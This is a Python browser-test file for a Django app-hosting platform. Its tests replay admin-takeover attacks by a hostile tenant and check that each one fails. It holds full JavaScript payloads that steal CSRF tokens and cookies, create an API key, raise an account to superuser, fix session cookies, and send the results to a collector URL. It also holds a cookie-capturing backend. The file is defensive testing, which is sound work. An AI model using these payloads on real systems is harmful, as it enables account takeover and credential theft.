"""The attacks that took over the admin, replayed in real Chromium with an admin logged in.

A hostile app author publishes backends and previews that try the takeover found in review: read the admin's
CSRF token, create an API key for user 1, make the author staff, read the admin's cookies, fix the admin's
session and CSRF cookies. Each attack runs where a tenant can put it (the platform's gateway path, the app's own
origin, a preview frame opened top-level) and afterwards nothing has changed and nothing reached the collector.
"""

import json
import time
from urllib.parse import parse_qs, urlsplit

import pytest
from django.contrib.auth import get_user_model
from playwright.sync_api import expect

from core.models import ApiKey
from stage.origins.preview_links import preview_token_mint
from stage.services.published_apps import channel_rollback
from tests.support.factories import UserFactory
from tests.support.publishing import deploy, publish
from tests.support.renders import trigger
from tests.support.rest import new_session

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
PASSWORD = "correct horse battery staple"

# The takeover script: everything an admin's browser would let a page on the platform's origin do.
TAKEOVER = """
const PLATFORM = "%(platform)s", COLLECT = "%(collect)s", AUTHOR = "%(author)s";
document.title = "script ran";
const out = {};
const report = () => { new Image().src = COLLECT + "?d=" + encodeURIComponent(JSON.stringify(out)); };
(async () => {
  try { out.cookie = document.cookie; } catch (e) { out.cookie = "ERR " + e.name; }
  try {
    const form = await (await fetch(PLATFORM + "/admin/core/apikey/add/", { credentials: "include" })).text();
    const csrf = (form.match(/name="csrfmiddlewaretoken" value="([^"]+)"/) || [])[1] || null;
    out.csrf = csrf;
    const body = new URLSearchParams({ csrfmiddlewaretoken: csrf, user: "1", name: "pwned", _save: "Save" });
    const made = await fetch(PLATFORM + "/admin/core/apikey/add/", { method: "POST", body, credentials: "include" });
    out.key = ((await made.text()).match(/stg_[A-Za-z0-9_-]{20,}/) || [null])[0];
    const edit = PLATFORM + "/admin/auth/user/" + AUTHOR + "/change/";
    const page = await (await fetch(edit, { credentials: "include" })).text();
    const token = (page.match(/name="csrfmiddlewaretoken" value="([^"]+)"/) || [])[1] || "";
    const fields = new URLSearchParams({ csrfmiddlewaretoken: token, username: "mallory", is_active: "on",
      is_staff: "on", is_superuser: "on", date_joined_0: "2026-01-01", date_joined_1: "00:00:00" });
    out.elevated = (await fetch(edit, { method: "POST", body: fields, credentials: "include" })).status;
  } catch (e) { out.fetch = "ERR " + e.name; }
  try {
    await navigator.serviceWorker.register("/api/sw.js", { scope: "/" });
    out.serviceWorker = "registered";
  } catch (e) { out.serviceWorker = "ERR " + e.name; }
  try { document.cookie = "csrftoken=tossed; domain=localhost; path=/"; out.toss = "done"; }
  catch (e) { out.toss = "ERR " + e.name; }
  try {
    const opened = window.open(PLATFORM + "/admin/core/apikey/add/");
    out.opened = opened ? "window" : "null";
    if (opened) await new Promise((r) => setTimeout(r, 1500));
    try { out.adminTitle = opened && opened.document.title; } catch (e) { out.adminTitle = "ERR " + e.name; }
  } catch (e) { out.opened = "ERR " + e.name; }
  report();
})();
"""


def takeover_page(platform: str, collect: str, author_id: int) -> str:
    script = TAKEOVER % {"platform": platform, "collect": collect, "author": author_id}
    return f"<!doctype html><title>evil</title><p>hello admin</p><script>{script}</script>"


def hostile_backend(page_html: str) -> str:
    """A backend answering the page with every header that would help it: cookies, a lax CSP, framing."""
    headers = [
        ["content-type", "text/html"],
        ["content-security-policy", "script-src * 'unsafe-inline'"],
        ["x-frame-options", "ALLOWALL"],
        ["set-cookie", "csrftoken=attackerchosen; Path=/"],
        ["set-cookie", "sessionid=fixated; Path=/admin"],
        ["set-cookie", "csrftoken=tossed; Domain=localhost; Path=/"],
    ]
    answer = f"new Response({json.dumps(page_html)}, {{ headers: {json.dumps(headers)} }})"
    return f"export default {{ fetch: () => {answer} }};"


@pytest.fixture
def admin_page(page, live_server):
    """A browser page with a superuser signed in to the admin."""
    get_user_model().objects.create_superuser("admin", "admin@example.com", PASSWORD)
    page.goto(f"{live_server.url}/admin/login/")
    page.fill("#id_username", "admin")
    page.fill("#id_password", PASSWORD)
    page.click("input[type=submit]")
    expect(page.locator("#site-name")).to_be_visible()
    return page


def platform_cookies(page, live_server) -> dict[str, str]:
    return {c["name"]: c["value"] for c in page.context.cookies(live_server.url)}


def collected(collector, timeout: float = 5.0) -> list[dict]:
    deadline = time.monotonic() + timeout
    while not collector.requests and time.monotonic() < deadline:
        time.sleep(0.05)
    return [json.loads(parse_qs(urlsplit(r["path"]).query)["d"][0]) for r in collector.requests]


def assert_nothing_changed(author, keys_before: int) -> None:
    author.refresh_from_db()
    assert not author.is_staff and not author.is_superuser
    assert ApiKey.objects.count() == keys_before


@pytest.fixture
def mallory(db):
    return UserFactory(username="mallory")


def test_a_hostile_backend_on_the_platform_origin_runs_nothing_and_sets_no_cookie(
    admin_page, live_server, collector, backends, mallory
):
    # given a logged-in admin and a backend that answers the takeover page with cookies and a lax policy
    before = platform_cookies(admin_page, live_server)
    app = publish(mallory, hostile_backend(takeover_page(live_server.url, collector.url("/collect"), mallory.pk)))
    keys = ApiKey.objects.count()
    # when the admin opens the link on the platform's origin
    admin_page.goto(f"{live_server.url}/stage/{app.sid}/api/evil")
    expect(admin_page.locator("p")).to_have_text("hello admin")
    time.sleep(1.5)
    # then the page's script never ran, nothing left, nothing changed, and the admin's cookies are as they were
    assert admin_page.title() == "evil"
    assert collected(collector, timeout=0.5) == []
    assert_nothing_changed(mallory, keys)
    assert platform_cookies(admin_page, live_server) == before


def test_a_hostile_backend_on_its_own_origin_runs_but_cannot_reach_the_admin(
    admin_page, live_server, collector, backends, mallory
):
    before = platform_cookies(admin_page, live_server)
    app = publish(mallory, hostile_backend(takeover_page(live_server.url, collector.url("/collect"), mallory.pk)))
    keys = ApiKey.objects.count()
    origin = app_origin(app, live_server)
    # when the admin opens the same page on the app's own origin, where the app may run scripts
    admin_page.goto(f"{origin}/api/evil")
    (report,) = collected(collector, timeout=10)
    # then the script ran there, and every step towards the admin failed
    assert admin_page.title() == "script ran"
    assert report.get("csrf") is None and report["fetch"] == "ERR TypeError", report  # CORS: no read
    assert report.get("key") is None and report.get("elevated") is None, report
    assert report.get("adminTitle") in (None, "ERR SecurityError"), report
    # and its documents run in an opaque origin even there: no cookies to read or toss, no service worker
    assert report["cookie"] == "ERR SecurityError" and report["toss"] == "ERR SecurityError", report
    assert report["serviceWorker"].startswith("ERR"), report
    assert_nothing_changed(mallory, keys)
    # and its cookies stayed on its own host: the admin's are as they were
    assert platform_cookies(admin_page, live_server) == before
    assert {c["name"] for c in admin_page.context.cookies(origin)} >= {"csrftoken"}


def app_origin(app, live_server) -> str:
    return f"http://{app.sid.replace('_', '-')}.localhost:{live_server.url.rsplit(':', 1)[1]}"


PREVIEW_ATTACK = """
const out: Record<string, string> = {};
try { out.cookie = document.cookie; } catch (e) { out.cookie = "ERR " + (e as Error).name; }
try { out.storage = String(localStorage.length); } catch (e) { out.storage = "ERR " + (e as Error).name; }
try { out.opened = window.open("%(platform)s/admin/core/apikey/add/") ? "window" : "null"; }
catch (e) { out.opened = "ERR " + (e as Error).name; }
fetch("%(platform)s/admin/core/apikey/add/").then(() => { out.fetch = "ok"; }, (e) => { out.fetch = "ERR " + e.name; })
  .finally(() => { location.href = "%(collect)s?d=" + encodeURIComponent(JSON.stringify(out)); });
export default () => <p>preview</p>;
"""


@pytest.mark.parametrize("where", ["platform", "session-origin"])
def test_a_preview_frame_opened_top_level_has_no_origin_to_act_from(
    admin_page, live_server, collector, api, where, django_capture_on_commit_callbacks, mallory
):
    # given a session whose app tries the takeover from its frame
    source = PREVIEW_ATTACK % {"platform": live_server.url, "collect": collector.url("/collect")}
    session_id = new_session(api, [{"path": "/app/App.tsx", "content": source}])
    trigger(api, session_id, django_capture_on_commit_callbacks)
    keys, before = ApiKey.objects.count(), platform_cookies(admin_page, live_server)
    # when the admin opens the frame's URL directly, not inside the preview page's sandboxed iframe
    port = live_server.url.rsplit(":", 1)[1]
    url = {
        "platform": f"{live_server.url}/s/{session_id}/frame",
        "session-origin": f"http://s-{session_id}.localhost:{port}/frame",
    }[where]
    admin_page.goto(url, wait_until="commit")
    (report,) = collected(collector, timeout=10)
    # then it runs in an opaque origin: no cookies, no storage, no windows, no network
    assert report == {"cookie": "ERR SecurityError", "storage": "ERR SecurityError", "opened": "null",
                      "fetch": "ERR TypeError"}  # fmt: skip
    assert_nothing_changed(mallory, keys)
    assert platform_cookies(admin_page, live_server) == before


UI = "export default () => <h1 id='ui'>%s</h1>;"
API = "export default { fetch: () => new Response('%s') };"


def test_an_apps_origin_shows_what_its_channels_serve_and_a_version_origin_never_changes(
    page, live_server, backends, mallory
):
    # given an app published with a UI and a backend
    app = publish(mallory, {"/app/App.tsx": UI % "first", "/app/src/app.ts": API % "api one"})
    origin = app_origin(app, live_server)
    port = live_server.url.rsplit(":", 1)[1]
    v2_origin = f"http://{app.sid.replace('_', '-')}--v2.localhost:{port}"

    def shows(url: str) -> str:
        page.goto(url)
        return page.frame_locator("#stage-app").locator("#ui").inner_text()

    def answers(url: str) -> str:
        return page.goto(f"{url}/api/").text()

    assert (shows(origin), answers(origin)) == ("first", "api one")
    # when v2 is deployed and promoted
    deploy(app, {"/app/App.tsx": UI % "second", "/app/src/app.ts": API % "api two"})
    assert (shows(origin), answers(origin)) == ("second", "api two")
    # a version's origin shows its version whatever production does
    assert (shows(v2_origin), answers(v2_origin)) == ("second", "api two")
    # when production rolls back
    channel_rollback(app=app, actor=mallory)
    assert (shows(origin), answers(origin)) == ("first", "api one")
    assert shows(f"http://{app.sid.replace('_', '-')}--v1.localhost:{port}") == "first"
    # and v2, out of production, is its owner's again: a link opens it, still showing v2
    page.goto(f"{v2_origin}/?stage_preview={preview_token_mint(app_sid=app.sid).value}")
    assert page.frame_locator("#stage-app").locator("#ui").inner_text() == "second"


LOOT = """let loot = "nothing yet";
export default { fetch: (r: Request) => {
  const path = new URL(r.url).pathname;
  if (path === "/steal") { loot = r.headers.get("cookie") ?? "no cookie"; return new Response("thanks"); }
  if (path === "/loot") return new Response(loot);
  return new Response('<script>location.href = "%(platform)s/stage/%(sid)s/api/steal";</script>',
    { headers: { "content-type": "text/html" } });
} };"""


def test_a_lure_that_sends_the_admin_to_the_platform_path_collects_no_cookie(
    admin_page, live_server, backends, mallory
):
    # given the attacker's app: a page on its own origin that sends the admin, top-level, to the platform's path
    # of the same backend, which keeps whatever cookies arrive there
    app = publish(mallory, "export default { fetch: () => new Response('placeholder') };")
    deploy(app, LOOT % {"platform": live_server.url, "sid": app.sid})
    before = platform_cookies(admin_page, live_server)
    # when the admin opens the lure
    admin_page.goto(f"{app_origin(app, live_server)}/api/lure")
    admin_page.wait_for_url(f"{live_server.url}/stage/{app.sid}/api/steal")
    # then the backend was reached, but holds no cookie of the platform's
    loot = admin_page.context.request.get(f"{live_server.url}/stage/{app.sid}/api/loot").text()
    assert loot == "no cookie"
    assert before["sessionid"] not in loot and before["csrftoken"] not in loot
